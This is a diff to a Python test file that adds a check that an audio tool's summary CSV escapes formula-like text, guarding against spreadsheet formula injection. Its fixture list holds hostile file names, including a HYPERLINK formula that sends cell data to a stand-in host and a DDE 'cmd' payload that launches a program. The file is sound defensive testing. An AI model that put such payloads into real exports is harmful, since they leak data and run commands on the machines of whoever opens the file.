@@ -21,6 +21,7 @@ from earshot.submit import (
     Manifest,
     UsageError,
     backoff_delay,
+    build_summary,
     discover,
     flatten,
     idempotency_key,
@@ -226,6 +227,62 @@ def test_the_client_starts_without_importing_the_analysis_stack() -> None:
     )
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert done.stdout.strip() == "[]"
+
+
+# A spreadsheet runs a cell as a formula when it starts with one of these (OWASP).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_NAMES = [
+    '=HYPERLINK("evil.example?leak="&A1,"click").wav',
+    "+cmd|' -C calc'!A0.wav",
+    "-2+3.wav",
+    "@SUM(A1:A9).wav",
+    "\tTAB.wav",
+    "\rCR.wav",
+    "plain.wav",
+]
+
+
+def test_summary_csv_neutralises_formula_text_and_keeps_numbers_numbers(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    manifest = Manifest(out / "manifest.jsonl")
+    manifest.open()
+    for name in HOSTILE_NAMES:
+        doc = {
+            "audio": {"duration_s": 8.0, "sample_rate": 44100, "format": "=1+1"},
+            "summary": {
+                "key": {"tonic": "@A", "mode": "-minor"},
+                "loudness": {"integrated_lufs": -14.2, "true_peak_dbtp": -1.0},
+                "tempo": {"bpm": 120.0},
+            },
+        }
+        (out / f"{name}.json").write_text(json.dumps(doc), encoding="utf-8")
+        manifest.append({"path": name, "status": "succeeded"})
+    manifest.close()
+
+    assert build_summary(out, manifest) == len(HOSTILE_NAMES)
+
+    with (out / "summary.csv").open(newline="", encoding="utf-8") as fh:
+        header, *rows = list(csv.reader(fh))
+    assert len(rows) == len(HOSTILE_NAMES)
+    col = {name: i for i, name in enumerate(header)}
+    text_columns = ("path", "key", "mode", "audio.format")
+    number_columns = ("duration_s", "tempo_bpm", "loudness_lufs", "audio.sample_rate")
+    names = set()
+    for row in rows:
+        for cell in row:
+            # The spreadsheet's own rule: nothing that starts like a formula unless a number.
+            if cell.startswith(FORMULA_STARTS):
+                float(cell)
+        path = row[col["path"]]
+        names.add(path[1:] if path.startswith("'") else path)
+        if path != "plain.wav":
+            assert path.startswith("'") and path[1:].startswith(FORMULA_STARTS), path
+        for name in text_columns[1:]:
+            assert row[col[name]].startswith("'"), (name, row[col[name]])
+        assert [float(row[col[name]]) for name in number_columns] == [8.0, 120.0, -14.2, 44100]
+        assert float(row[col["summary.loudness.true_peak_dbtp"]]) == -1.0
+    assert names == set(HOSTILE_NAMES)
+    assert (row[col["key"]], row[col["mode"]]) == ("'@A", "'-minor")
 
 
 def test_result_urls_carry_their_format_through_the_http_client() -> None:
